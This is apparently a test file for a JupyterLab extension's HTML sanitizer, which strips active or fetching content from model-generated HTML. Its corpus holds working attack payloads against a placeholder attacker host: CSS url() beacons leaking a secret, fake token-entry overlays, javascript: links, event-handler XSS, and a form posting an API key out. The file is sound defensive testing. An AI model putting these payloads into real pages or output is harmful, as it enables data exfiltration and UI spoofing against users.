// Tests for src/scrub.ts, the allowlist pass every piece of model HTML goes through before
// it reaches the page (src/markdown.ts runs it after JupyterLab's renderer and sanitizer).
// No browser: the HTML is parsed by htmlparser2 into a small DOM (below), and JupyterLab's
// own sanitizer (@jupyterlab/apputils, what renderMarkdown runs) is loaded as it ships.
// ui-tests/ui.test.mjs checks the same in Chromium, with a server that records every fetch.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { test } from 'node:test';

import { importBundle } from '../scripts/bundle.mjs';

const here = new URL('..', import.meta.url);
const S = await importBundle('scrub');

// JupyterLab's sanitizer and its parser, found where the extension's own dependencies put them.
const requireHere = createRequire(new URL('package.json', here));
const sanitizerPath = requireHere.resolve('@jupyterlab/apputils/lib/sanitizer.js');
const requireLab = createRequire(sanitizerPath);
const sanitizeHtml = requireLab('sanitize-html');
const { Parser } = createRequire(requireLab.resolve('sanitize-html'))('htmlparser2');
globalThis.__velSanitizeHtml = sanitizeHtml;
const labSource = readFileSync(sanitizerPath, 'utf8').replace("import sanitize from 'sanitize-html';", 'const sanitize = globalThis.__velSanitizeHtml;');
const { Sanitizer } = await import('data:text/javascript;base64,' + Buffer.from(labSource).toString('base64'));
const labSanitizer = new Sanitizer();

// ---------------------------------------------------------------------------------------
// A small DOM: what scrub.ts uses, built by htmlparser2 with the HTML parser's namespaces
// (<svg> and <math> open foreign content; <image> outside it is <img>).

const HTML_NS = 'http://www.w3.org/1999/xhtml';
const SVG_NS = 'http://www.w3.org/2000/svg';
const MATHML_NS = 'http://www.w3.org/1998/Math/MathML';
const VOID = new Set(['img', 'input', 'br', 'hr', 'wbr', 'col']);

class Node {
  constructor(doc) {
    this.ownerDocument = doc;
    this.parentNode = null;
    this.childNodes = [];
  }
  get textContent() {
    return this.childNodes.map(c => c.textContent).join('');
  }
  set textContent(value) {
    for (const c of [...this.childNodes]) c.remove();
    this.appendChild(new Text(this.ownerDocument, String(value)));
  }
  appendChild(child) {
    child.remove();
    child.parentNode = this;
    this.childNodes.push(child);
    return child;
  }
  remove() {
    if (this.parentNode) this.parentNode.childNodes.splice(this.parentNode.childNodes.indexOf(this), 1);
    this.parentNode = null;
  }
  replaceWith(...nodes) {
    const parent = this.parentNode;
    for (const n of nodes) n.remove();
    const at = parent.childNodes.indexOf(this);
    parent.childNodes.splice(at, 1, ...nodes);
    for (const n of nodes) n.parentNode = parent;
    this.parentNode = null;
  }
}

class Text extends Node {
  constructor(doc, data) {
    super(doc);
    this.data = data;
  }
  get textContent() {
    return this.data;
  }
}

class Element extends Node {
  constructor(doc, localName, namespaceURI = HTML_NS) {
    super(doc);
    this.localName = localName;
    this.namespaceURI = namespaceURI;
    this.attrs = new Map();
  }
  get children() {
    return this.childNodes.filter(c => c instanceof Element);
  }
  get attributes() {
    return [...this.attrs].map(([name, value]) => ({ name, value }));
  }
  getAttribute(name) {
    return this.attrs.has(name) ? this.attrs.get(name) : null;
  }
  setAttribute(name, value) {
    this.attrs.set(name, String(value));
  }
  removeAttribute(name) {
    this.attrs.delete(name);
  }
  closest(tag) {
    for (let n = this; n instanceof Element; n = n.parentNode) if (n.localName === tag) return n;
    return null;
  }
  /** Every element below this one, in document order. */
  descendants() {
    return this.children.flatMap(c => [c, ...c.descendants()]);
  }
  get innerHTML() {
    const escape = t => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
    const open = c => `<${c.localName}${c.attributes.map(a => ` ${a.name}="${escape(a.value)}"`).join('')}>`;
    return this.childNodes
      .map(c => (c instanceof Element ? open(c) + (VOID.has(c.localName) ? '' : `${c.innerHTML}</${c.localName}>`) : escape(c.data)))
      .join('');
  }
}

class Document {
  createElement(tag) {
    return new Element(this, tag);
  }
}

/** `html` parsed into a <div> (as renderMarkdown's host). */
function parse(html) {
  const doc = new Document();
  const root = doc.createElement('div');
  const stack = [root];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        const parent = stack.at(-1);
        let ns = parent.namespaceURI;
        if (name === 'svg') ns = SVG_NS;
        else if (name === 'math') ns = MATHML_NS;
        const el = new Element(doc, ns === HTML_NS && name === 'image' ? 'img' : name, ns);
        for (const [k, v] of Object.entries(attribs)) el.setAttribute(k, v);
        parent.appendChild(el);
        stack.push(el);
      },
      ontext(text) {
        stack.at(-1).appendChild(new Text(doc, text));
      },
      onclosetag() {
        if (stack.length > 1) stack.pop();
      }
    },
    { recognizeSelfClosing: true }
  );
  parser.write(html);
  parser.end();
  return root;
}

/** `html` through our pass alone (nothing before it), as HTML. */
function scrubbed(html) {
  const root = parse(html);
  S.scrubModelHtml(root);
  return root;
}

// ---------------------------------------------------------------------------------------
// What the pass allows (the spec, written out again): anything else is a failure.

const TAGS = new Set(
  ('a abbr b bdi bdo blockquote br caption code col colgroup dd del details dfn div dl dt em figcaption figure ' +
    'h1 h2 h3 h4 h5 h6 hr i input ins kbd li mark ol p pre q rp rt ruby s samp small span strike strong sub ' +
    'summary sup table tbody td tfoot th thead tr tt u ul var wbr').split(' ')
);
const COMMON = ['title', 'lang', 'dir', 'class'];
const ATTRS = {
  a: ['href', 'rel', 'target'],
  input: ['type', 'checked', 'disabled'],
  ol: ['start', 'reversed', 'type'],
  li: ['value'],
  td: ['align', 'colspan', 'rowspan'],
  th: ['align', 'colspan', 'rowspan'],
  col: ['span'],
  colgroup: ['span'],
  details: ['open'],
  ...Object.fromEntries(['h1', 'h2', 'h3', 'h4', 'h5', 'h6'].map(h => [h, ['data-jupyter-id']]))
};

/** Every element, attribute and class below `root` is allowed, and no value but a link's names a URL. */
function assertInert(root, where) {
  for (const el of root.descendants()) {
    const tag = el.localName;
    const at = `${where}: <${tag}> in ${root.innerHTML.slice(0, 300)}`;
    assert.equal(el.namespaceURI, HTML_NS, at);
    assert.ok(TAGS.has(tag), `element ${at}`);
    for (const { name, value } of el.attributes) {
      assert.ok([...COMMON, ...(ATTRS[tag] ?? [])].includes(name), `attribute ${name} on ${at}`);
      if (tag === 'a' && name === 'href') {
        assert.match(value, /^(https?:|mailto:|#)/, `href ${at}`);
      } else {
        assert.doesNotMatch(value, /url\s*\(|\/\/|javascript:|data:|@import/i, `${name}="${value}" ${at}`);
      }
    }
    for (const c of (el.getAttribute('class') ?? '').split(/\s+/).filter(Boolean)) {
      const highlight = /^ͼ[0-9a-z]+$/.test(c) && tag === 'span' && el.closest('pre');
      const anchor = c === 'jp-InternalAnchorLink' && tag === 'a' && el.getAttribute('href')?.startsWith('#');
      assert.ok(highlight || anchor, `class ${c} on ${at}`);
    }
    if (tag === 'input') assert.equal(el.getAttribute('type'), 'checkbox', at);
  }
}

// ---------------------------------------------------------------------------------------
// The corpus: every way we know for model HTML to fetch, run, or dress up as the UI.

const R = 'http://attacker.example';
const CORPUS = {
  'style url()': `<span style="background-image:url(${R}/bg?secret=1)">bg</span><p style="background:url('${R}/bg2')">p</p>`,
  'list-style-image': `<ul style="list-style-image:url(${R}/list)"><li style="list-style:url(${R}/li)">item</li></ul>`,
  'other CSS url()s': `<div style="cursor:url(${R}/cur),auto;border-image:url(${R}/bi) 30;mask-image:url(${R}/m);content:url(${R}/c)">css</div><span style="behavior:url(${R}/x.htc)">b</span>`,
  'position overlay': `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white">Fake dialog: enter your token</div><a href="https://ok.example/" style="position:fixed;inset:0">cover</a>`,
  'foreign classes': `<div class="jp-Dialog lm-Widget jp-mod-accept">dialog</div><span class="vel-tree-checkout jp-Button">button</span><p class="ͼ1">not code</p><div class="ͼs">div</div>`,
  'style element, @import': `<style>@import url(${R}/import.css); body{background:url(${R}/body)} @font-face{src:url(${R}/font)}</style>after style`,
  'link, meta, base': `<link rel="stylesheet" href="${R}/link.css"><link rel="prefetch" href="${R}/pre"><meta http-equiv="refresh" content="0;url=${R}/meta"><base href="${R}/base/">after head`,
  img: `<img src="${R}/img.png" alt="cat"><IMG SRC="${R}/upper.png"><img src="x" srcset="${R}/1x.png 1x, ${R}/2x.png 2x" onerror="alert(1)">`,
  'data: image': `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${R}/s 2x" alt="dot" width="10" height="99999" usemap="#m" longdesc="${R}/ld" style="position:fixed" class="jp-Dialog">`,
  'picture, srcset, source': `<picture><source srcset="${R}/source.webp"><img src="${R}/pic.png" alt="pic"></picture>`,
  'video, audio, track, poster': `<video poster="${R}/poster.png" src="${R}/v.mp4"><track src="${R}/t.vtt"></video><audio src="${R}/a.mp3"></audio>`,
  'iframe, object, embed': `<iframe src="${R}/frame" srcdoc="<img src=${R}/srcdoc>"></iframe><object data="${R}/obj"><param name="movie" value="${R}/param"></object><embed src="${R}/embed">`,
  'svg image, use, feImage': `<svg><image href="${R}/svg-image"/><image xlink:href="${R}/svg-xlink"/><use href="${R}/use.svg#a"/><filter><feImage href="${R}/feimage"/></filter><a href="javascript:alert(1)"><text>t</text></a><style>@import url(${R}/svgstyle);</style></svg>after svg`,
  'image outside svg is img': `<image src="${R}/image-tag">`,
  MathML: `<math><mi href="${R}/mathml">x</mi><maction actiontype="statusline">y</maction></math>after math`,
  'form, inputs, buttons': `<form action="${R}/form" method="post"><input type="text" name="token" placeholder="API key"><input type="image" src="${R}/input.png"><input type="password"><button formaction="${R}/formaction" data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">Run</button></form>`,
  'task list checkbox': `<ul><li><input type="checkbox" checked onclick="alert(1)"> done</li><li><input type="checkbox"> todo</li></ul>`,
  'links: schemes': `<a href="javascript:alert(1)">js</a><a href="JaVaScRiPt:alert(2)">js2</a><a href="&#106;avascript:alert(3)">js3</a><a href="  javascript:alert(4)">js4</a><a href="data:text/html,<script>alert(5)</script>">data</a><a href="vbscript:x">vb</a><a href="/api/contents/secret.txt">relative</a><a href="//attacker.example/x">scheme-relative</a><a href="file:///etc/passwd">file</a>`,
  'links: allowed, cleaned': `<a href="https://ok.example/" ping="${R}/ping" download="x" target="_top" rel="opener" id="main" name="n">ok</a><a href="mailto:a@example.com">mail</a><a href="#Heading" class="jp-InternalAnchorLink" target="_top">¶</a><a href="https://ok.example/" class="jp-InternalAnchorLink">hidden link</a>`,
  'URL attributes on kept elements': `<table background="${R}/table.png"><tr><td background="${R}/td.png" align="right" style="x">1</td><th colspan="2" bgcolor="red">h</th></tr></table><blockquote cite="${R}/cite">q</blockquote><q cite="${R}/q">q</q><del cite="${R}/del">d</del><div xlink:href="${R}/xl" data-src="${R}/ds" itemtype="${R}/it">x</div><body background="${R}/body.png">body</body>`,
  'event handlers, ids, popovers, editable': `<details open ontoggle="alert(1)"><summary onclick="x">s</summary>d</details><div popover id="jp-main-dock-panel" name="x" tabindex="0" contenteditable accesskey="k" draggable="true" data-x="1" role="dialog" aria-label="Dialog">p</div><dialog open>Overlay</dialog>`,
  'headings keep their anchor id': `<h2 data-jupyter-id="Section" id="Section" style="position:absolute">Section<a target="_self" href="#Section" class="jp-InternalAnchorLink">¶</a></h2>`,
  'custom and obsolete elements': `<x-widget onclick="alert(1)" style="position:fixed">custom</x-widget><font face="Comic Sans" color="red">font</font><marquee>m</marquee><center>c</center><area href="${R}/area"><map name="m">map</map>`,
  'script-like content': `<script>alert(1)</script><noscript><img src="${R}/noscript"></noscript><template><img src="${R}/template"></template><textarea>${R}/ta</textarea><select><option>o</option></select>visible`,
  'highlighted code': `<pre><code class="language-python"><span class="ͼs">import</span> os <span class="ͼ11 jp-Dialog" style="background:url(${R}/code)"># c</span></code></pre>`,
  'mermaid figure': `<div class="jp-RenderedMermaid jp-Dialog"><figure><img src="data:image/svg+xml,%3Csvg%3E%3C/svg%3E" width="86" alt="Image"><pre><code class="mermaid">graph TD; A--&gt;B</code></pre></figure></div>`
};

// ---------------------------------------------------------------------------------------

test('our pass alone makes every case of the corpus inert: only allowed elements, attributes and classes, no URL but a checked href', () => {
  for (const [name, html] of Object.entries(CORPUS)) assertInert(scrubbed(html), name);
});

test("after JupyterLab's sanitizer (what renderMarkdown runs) too; the sanitizer alone keeps url(), overlays, foreign classes and command buttons", () => {
  const all = Object.values(CORPUS).join('\n');
  const lab = labSanitizer.sanitize(all);
  // Why the pass exists (if JupyterLab's sanitizer ever drops these, this says so).
  for (const kept of [`background-image:url(${R}/bg?secret=1)`, `list-style-image:url(${R}/list)`, 'position:absolute', 'class="jp-Dialog', 'data-commandlinker-command']) {
    assert.ok(lab.includes(kept), `JupyterLab's sanitizer keeps ${kept}`);
  }
  for (const [name, html] of Object.entries(CORPUS)) assertInert(scrubbed(labSanitizer.sanitize(html)), `sanitized ${name}`);
  assertInert(scrubbed(lab), 'the whole corpus, sanitized');
});

test('what is removed, what stays: text, structure, checked links, data: images, highlighting', () => {
  const cases = [
    [`<span style="background-image:url(${R}/bg)">bg</span>`, '<span>bg</span>'],
    [CORPUS['position overlay'], '<div>Fake dialog: enter your token</div><a href="https://ok.example/" rel="noopener noreferrer nofollow" target="_blank">cover</a>'],
    [CORPUS['foreign classes'], '<div>dialog</div><span>button</span><p>not code</p><div>div</div>'],
    [CORPUS['style element, @import'], 'after style'],
    [CORPUS['link, meta, base'], 'after head'],
    [CORPUS['svg image, use, feImage'], 'after svg'],
    [CORPUS.MathML, 'after math'],
    [CORPUS['script-like content'], 'visible'],
    [`<img src="${R}/img.png" alt="cat">`, `<a href="${R}/img.png" rel="noopener noreferrer nofollow" target="_blank">image: cat</a>`],
    [CORPUS['image outside svg is img'], `<a href="${R}/image-tag" rel="noopener noreferrer nofollow" target="_blank">image: ${R}/image-tag</a>`],
    [CORPUS['data: image'], '<a>image: dot</a>'],
    [
      CORPUS['form, inputs, buttons'],
      `<a>input: </a><a href="${R}/input.png" rel="noopener noreferrer nofollow" target="_blank">input: ${R}/input.png</a><a>input: </a>Run`
    ],
    [CORPUS['task list checkbox'], '<ul><li><input type="checkbox" checked="" disabled=""> done</li><li><input type="checkbox" disabled=""> todo</li></ul>'],
    [
      CORPUS['links: schemes'],
      '<a>js</a><a>js2</a><a>js3</a><a>js4</a><a>data</a><a>vb</a><a>relative</a><a>scheme-relative</a><a>file</a>'
    ],
    [
      CORPUS['links: allowed, cleaned'],
      '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer nofollow">ok</a><a href="mailto:a@example.com" rel="noopener noreferrer nofollow" target="_blank">mail</a>' +
        '<a href="#Heading" class="jp-InternalAnchorLink" target="_self">¶</a><a href="https://ok.example/" rel="noopener noreferrer nofollow" target="_blank">hidden link</a>'
    ],
    [CORPUS['headings keep their anchor id'], '<h2 data-jupyter-id="Section">Section<a target="_self" href="#Section" class="jp-InternalAnchorLink">¶</a></h2>'],
    [CORPUS['custom and obsolete elements'], 'customfontmcmap'],
    [CORPUS['event handlers, ids, popovers, editable'], '<details open=""><summary>s</summary>d</details><div>p</div>Overlay'],
    [CORPUS['highlighted code'], '<pre><code><span class="ͼs">import</span> os <span class="ͼ11"># c</span></code></pre>'],
    [
      CORPUS['mermaid figure'],
      '<div><figure><a>image: Image</a><pre><code>graph TD; A-->B</code></pre></figure></div>'
    ]
  ];
  for (const [input, expected] of cases) assert.equal(scrubbed(input).innerHTML, expected, input.slice(0, 120));
});

test('withoutDiagrams: a ```mermaid block reaches the parser as code (JupyterLab would draw it in the page, images and all)', () => {
  const diagram = 'flowchart TD\n  A@{ img: "http://attacker.example/shape" } --> B["<img src=http://attacker.example/label>"]\n';
  for (const [fence, renamed] of [
    ['```mermaid', '```mermaid-source'],
    ['~~~mermaid  ', '~~~mermaid-source  '],
    ['````  mermaid\t', '````  mermaid-source\t'],
    ['   ```mermaid', '   ```mermaid-source'],
    ['> - 1. ```mermaid', '> - 1. ```mermaid-source'],
    ['```mermaid\r', '```mermaid-source\r']
  ]) {
    assert.equal(S.withoutDiagrams(`Look:\n\n${fence}\n${diagram}\`\`\`\n`), `Look:\n\n${renamed}\n${diagram}\`\`\`\n`, fence);
  }
  // Any other info string is not a diagram: left alone.
  for (const text of ['```python\nmermaid\n```', '```mermaid-js\n```', '```mermaid title\n```', 'a mermaid', '```Mermaid\n```']) {
    assert.equal(S.withoutDiagrams(text), text);
  }
});

test('allowedTarget: absolute http, https and mailto only', () => {
  for (const ok of ['https://a.example/x?y#z', 'http://127.0.0.1:8888/', 'mailto:x@example.com']) assert.ok(S.allowedTarget(ok), ok);
  for (const bad of ['javascript:alert(1)', ' javascript:alert(1)', 'data:text/html,x', '/api/contents', '//a.example/', 'file:///etc/passwd', 'ftp://a.example/', '#x', '']) {
    assert.ok(!S.allowedTarget(bad), bad);
  }
});

test('deeply nested and long HTML: each element once, no recursion', () => {
  const depth = 20000;
  const root = scrubbed('<div style="x">'.repeat(depth) + 'deep' + '</div>'.repeat(depth) + '<span class="a" style="b">s</span>'.repeat(depth));
  // Walked with a stack here too: the DOM is deeper than a call stack.
  let elements = 0;
  let text = '';
  const stack = [root];
  while (stack.length) {
    const node = stack.pop();
    if (node instanceof Text) text += node.data;
    else {
      if (node !== root) elements++;
      assert.deepEqual(node.attributes, []);
      for (let i = node.childNodes.length - 1; i >= 0; i--) stack.push(node.childNodes[i]);
    }
  }
  assert.equal(elements, 2 * depth);
  assert.equal(text, 'deep' + 's'.repeat(depth));
});
